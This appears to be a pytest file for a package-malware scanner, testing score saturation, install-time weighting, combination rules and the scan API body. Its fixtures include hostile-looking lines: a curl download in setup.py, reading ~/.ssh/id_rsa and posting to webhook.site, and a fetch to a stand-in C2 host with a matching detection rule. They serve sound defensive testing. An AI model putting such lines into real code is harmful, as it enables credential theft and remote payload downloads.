"""Scores saturate, depend on location and combination, and the scan body is consistent."""

import json

from scans.engine import scan_archive, scan_directory, verdict_for_score
from scans.engine.result import MAX_FINDINGS_PER_PHASE

from .conftest import make_tgz, write_tree


def test_two_hundred_evals_in_one_file_do_not_look_like_malware(rules):
    body = "".join(f"value_{i} = eval(expr_{i})\n" for i in range(200))
    result = scan_archive(make_tgz({"lib/evaluator.py": body}, root="lib-1.0/"), rules, filename="lib-1.0.tar.gz")
    assert result.verdict in ("clean", "low")


def test_evals_across_two_hundred_files_saturate(rules):
    files = {f"lib/mod_{i}.py": f"def f(x):\n    return eval(x) + {i}\n" for i in range(200)}
    result = scan_archive(make_tgz(files, root="lib-1.0/"), rules, filename="lib-1.0.tar.gz")
    assert result.score < 10


def test_install_time_location_counts_more_than_tests(rules):
    line = "import os\nos.system('curl -s https://x.example/a -o /tmp/a')\nsubprocess.Popen(cmd, shell=True)\n"
    in_setup = scan_archive(make_tgz({"setup.py": line}, root="p-1/"), rules, filename="p.tgz", ecosystem="pypi")
    in_tests = scan_archive(make_tgz({"tests/test_cli.py": line}, root="p-1/"), rules, filename="p.tgz", ecosystem="pypi")
    assert in_setup.score > 2 * in_tests.score > 0


def test_credentials_plus_network_in_one_file_is_worse_than_apart(rules):
    creds = "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    send = "requests.post('https://webhook.site/abc', data=payload)\n"
    together = scan_archive(make_tgz({"m/steal.py": creds + send}, root="p-1/"), rules, filename="p.tgz")
    apart = scan_archive(make_tgz({"m/a.py": creds, "m/b.py": send}, root="p-1/"), rules, filename="p.tgz")
    assert "eng_combo_cred_network" in together.rule_ids()
    assert together.score > apart.score
    assert together.verdict in ("high", "critical")


def test_minified_bundle_does_not_explode(rules):
    bundle = "".join(
        f"var a{i}=require('child_process');if(process.env.X{i * 7919 % 10007}){{new Function('x','return x')({i})}};eval(y{i});"
        for i in range(20000)
    )
    files = {"package.json": json.dumps({"name": "big", "version": "1.0.0"}), "dist/big.min.js": bundle}
    result = scan_archive(make_tgz(files), rules, filename="big.tgz", ecosystem="npm")
    assert result.verdict in ("clean", "low")


def test_scan_body_matches_the_api_contract(rules, tmp_path):
    files = {f"src/m{i}.py": f"import os\nx = eval(os.environ['V{i}'])\nrequests.post('https://pastebin.com/raw/{i}')\n" for i in range(80)}
    files["setup.py"] = "from setuptools import setup\nimport requests\nsetup(name='p')\n"
    write_tree(tmp_path, files)
    result = scan_directory(tmp_path, rules)
    body = result.to_scan_body(quarantine_id="20260215_143000_p", source_type="local", source_ref=str(tmp_path), cli_version="0.1.0")
    assert set(body) == {"quarantine_id", "source_type", "source_ref", "source_hash", "score", "verdict", "phases", "file_stats", "cli_version"}
    assert [p["phase"] for p in body["phases"]] == [1, 2, 3, 4, 5, 6]
    assert [p["name"] for p in body["phases"]] == ["install_hooks", "code_patterns", "network_exfil", "credentials", "obfuscation", "provenance"]
    assert sum(p["score"] for p in body["phases"]) == body["score"]
    assert body["verdict"] == verdict_for_score(body["score"])
    assert all(len(p["findings"]) <= MAX_FINDINGS_PER_PHASE for p in body["phases"])
    assert all(isinstance(s, str) and len(s) <= 300 for p in body["phases"] for s in p["findings"])
    assert all(len(f.excerpt) <= 200 for f in result.findings)
    assert body["source_hash"].startswith("sha256:") and len(body["source_hash"]) == 71
    assert body["file_stats"] == {"total_files": 81, "python": 81, "javascript": 0, "other": 0,
                                  "total_size_bytes": sum(len(v.encode()) for v in files.values())}
    assert len(json.dumps(body)) < 1_000_000
    assert "cli_version" not in result.to_scan_body(quarantine_id="q", source_type="pip", source_ref="p")


def test_empty_package_is_clean(rules):
    result = scan_archive(make_tgz({"README.md": "hello\n"}), rules, filename="p.tgz")
    assert result.score == 0 and result.verdict == "clean"
    assert [p.score for p in result.phases] == [0] * 6


def test_custom_rule_from_the_api_is_used(rules):
    from scans.engine import Rule, compile_rules

    custom = Rule.from_dict({"id": "sig_500", "phase": 3, "name": "corp_c2", "description": "known C2 host",
                             "pattern": r"evil-c2\.example", "severity": "critical", "weight": 30, "ecosystem": "generic"})
    result = scan_archive(make_tgz({"index.js": "fetch('https://evil-c2.example/x')\n"}), compile_rules([custom]), filename="p.tgz")
    assert result.phase(3).score == 30 and result.verdict == "high"
